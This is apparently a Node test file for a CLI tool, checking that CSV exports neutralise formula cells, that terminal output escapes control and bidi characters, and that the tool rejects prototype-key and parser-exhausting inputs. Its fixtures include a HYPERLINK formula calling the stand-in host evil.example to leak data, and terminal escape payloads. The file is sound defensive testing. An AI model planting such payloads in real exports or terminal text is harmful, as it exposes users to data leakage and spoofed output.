/**
 * What the CLI writes when the data itself is hostile: formula cells in CSV exports, control
 * and bidi characters on a terminal, and segment expressions built to exhaust the parser.
 */
import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { openStore } from '../../src/cli/workspace.js';
import { loadWorkspace } from '../../src/config/index.js';
import { tempDir } from '../tmp.js';
import { cairn } from './run-cli.js';

const FORMULA_ID = '=HYPERLINK("http://evil.example/?leak=1","open me")';
// Stored before the text rule refused such ids (or by another tool): output must still be safe.
const ESC_ID = 'acc_\u001b]0;pwned-title\u0007';
const RAW_CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('hostile data through the CLI', async () => {
  const ws = join(await tempDir(), 'ws');
  before(async () => {
    assert.equal((await cairn(['init', ws, '--example', 'helpdesk'])).code, 0);
    const accounts = join(ws, 'accounts.csv');
    await writeFile(
      accounts,
      [
        'account_id,name,created_at,plan,seats,churned_at',
        'acc_1,Plain,2025-01-01,pro,3,',
        `"${FORMULA_ID.replace(/"/g, '""')}",@SUM(1+1),2025-01-01,+pro,3,`,
        '-2+3,"=1+1",2025-01-01,-cmd,3,',
      ].join('\n'),
    );
    const r = await cairn(['-w', ws, 'import', 'accounts', accounts, '--json']);
    assert.equal(r.code, 0, r.stderr);
    const { statuses: _refreshed, ...counts } = JSON.parse(r.stdout);
    assert.deepEqual(counts, { imported: 3, quarantined: 0, lines: 4 });

    const store = await openStore(await loadWorkspace(ws));
    try {
      await store.upsertAccounts([{ accountId: ESC_ID, name: 'Bell\u0007', createdAt: Date.UTC(2025, 0, 1), plan: 'p\u009b31m\u202e', seats: 1, churnedAt: null }]);
      await store.addToQuarantine([
        { kind: 'account', source: 'import', file: 'a.csv', line: 2, reason: 'invalid_text', field: 'name', message: 'name contains a control character', payload: `acc_9,\u001b[2J\u001b[31mred,2025-01-01,pro,1,`, receivedAt: Date.now() },
      ]);
    } finally {
      await store.close();
    }
  });

  it('milestones --format csv neutralises formula cells and keeps the numbers Cairn computed', async () => {
    const r = await cairn(['-w', ws, 'milestones', '--as-of', '2025-06-01', '--format', 'csv']);
    assert.equal(r.code, 0, r.stderr);
    const rows: Record<string, string>[] = parse(r.stdout, { columns: true });
    const byId = new Map(rows.map((row) => [row.account_id, row]));
    assert.deepEqual([...byId.keys()].sort(), [`'-2+3`, `'${FORMULA_ID}`, 'acc_1', ESC_ID].sort());
    assert.equal(byId.get(`'${FORMULA_ID}`)!.plan, "'+pro");
    assert.equal(byId.get(`'-2+3`)!.plan, "'-cmd");
    assert.equal(byId.get('acc_1')!.seats, '3');
    assert.match(r.stdout, new RegExp(`^"'=HYPERLINK`, 'm'), 'quoted as well as prefixed');
    // Every cell a spreadsheet reads starts with something it will not run.
    for (const row of rows) for (const cell of Object.values(row)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
  });

  it('segment --format csv goes through the same writer', async () => {
    const r = await cairn(['-w', ws, 'segment', 'stuck_in_setup', '--as-of', '2025-06-01', '--format', 'csv']);
    assert.equal(r.code, 0, r.stderr);
    const ids = (parse(r.stdout, { columns: true }) as Record<string, string>[]).map((row) => row.account_id);
    assert.ok(ids.includes(`'${FORMULA_ID}`) && ids.includes(`'-2+3`), ids.join(' | '));
  });

  it('control and bidi characters from data reach a terminal escaped, in tables, the account view, stats and quarantine', async () => {
    const out = new Map<string, string>();
    for (const args of [
      ['milestones', '--as-of', '2025-06-01'],
      ['segment', 'stuck_in_setup', '--as-of', '2025-06-01'],
      ['account', ESC_ID, '--as-of', '2025-06-01'],
      ['quarantine', 'list'],
      ['quarantine', 'show', '1'],
    ]) {
      const r = await cairn(['-w', ws, ...args]);
      assert.equal(r.code, 0, `${args.join(' ')}: ${r.stderr}`);
      assert.doesNotMatch(r.stdout, RAW_CONTROLS, args.join(' '));
      out.set(args[0] + (args[0] === 'quarantine' ? ` ${args[1]}` : ''), r.stdout);
    }
    assert.ok(out.get('milestones')!.includes('acc_\\x1b]0;pwned-title\\x07'), out.get('milestones'));
    assert.ok(out.get('segment')!.includes('acc_\\x1b]0;pwned-title\\x07'), out.get('segment'));
    assert.ok(out.get('account')!.includes('p\\x9b31m\\u{202e}'), out.get('account'));
    assert.ok(out.get('quarantine list')!.includes('\\x1b[2J'), out.get('quarantine list'));
    assert.ok(out.get('quarantine show')!.includes('acc_9,\\x1b[2J\\x1b[31mred'), out.get('quarantine show'));
  });

  it('--json escapes DEL, C1 and bidi characters too, and still reads back as the same data', async () => {
    const r = await cairn(['-w', ws, 'account', ESC_ID, '--as-of', '2025-06-01', '--json']);
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stdout, RAW_CONTROLS);
    const out = JSON.parse(r.stdout);
    assert.equal(out.account_id, ESC_ID);
    assert.equal(out.plan, 'p\u009b31m\u202e');
  });

  it('errors quoting data are terminal-safe too', async () => {
    const r = await cairn(['-w', ws, 'account', 'acc_\u009b2J', '--as-of', '2025-06-01']);
    assert.equal(r.code, 1);
    assert.doesNotMatch(r.stderr, RAW_CONTROLS);
    assert.match(r.stderr, /no account "acc_\\x9b2J"/);
  });

  it('import --source must be a source name: __proto__ is bad usage, not a key of every object', async () => {
    const file = join(ws, 'e.jsonl');
    await writeFile(file, '');
    const r = await cairn(['-w', ws, 'import', 'events', file, '--source', '__proto__']);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /--source must be 1 to 64 characters of a-z, 0-9, _ and -, starting with a letter or digit; got "__proto__"/);
  });

  it('a segment naming an unknown field, or built to exhaust the parser, is a config error at its line (exit 2)', async () => {
    const milestones = join(ws, 'milestones.yaml');
    const original = await readFile(milestones, 'utf8');
    const lineOf = (text: string) => text.split('\n').findIndex((l) => l.startsWith('  stuck_in_setup:')) + 1;
    const withSegment = (expr: string) => original.replace(/^ {2}stuck_in_setup: .*$/m, `  stuck_in_setup: ${JSON.stringify(expr)}`);
    try {
      for (const [expr, message] of [
        [`foo = 'x'`, /segments\.stuck_in_setup: unknown field 'foo' \(fields: account_id, stage, plan, seats, age_days, churned, days_since_last_event, milestones\.<milestone>\.<field>\)/],
        [Array.from({ length: 10_000 }, (_, i) => `seats = ${i}`).join(' or '), /at most 4096 characters/],
        ['('.repeat(3000) + 'churned' + ')'.repeat(3000), /at most 4096 characters/],
        ['('.repeat(65) + 'churned' + ')'.repeat(65), /nested more than 64 levels deep/],
      ] as const) {
        await writeFile(milestones, withSegment(expr));
        const r = await cairn(['-w', ws, 'segment', 'stuck_in_setup']);
        assert.equal(r.code, 2, r.stderr.slice(0, 500));
        assert.match(r.stderr, new RegExp(`milestones\\.yaml:${lineOf(withSegment(expr))}:\\d+: `));
        assert.match(r.stderr, message);
        assert.doesNotMatch(r.stderr, /RangeError|at .*\.ts:\d+/, 'no stack trace');
      }
    } finally {
      await writeFile(milestones, original);
    }
  });
});
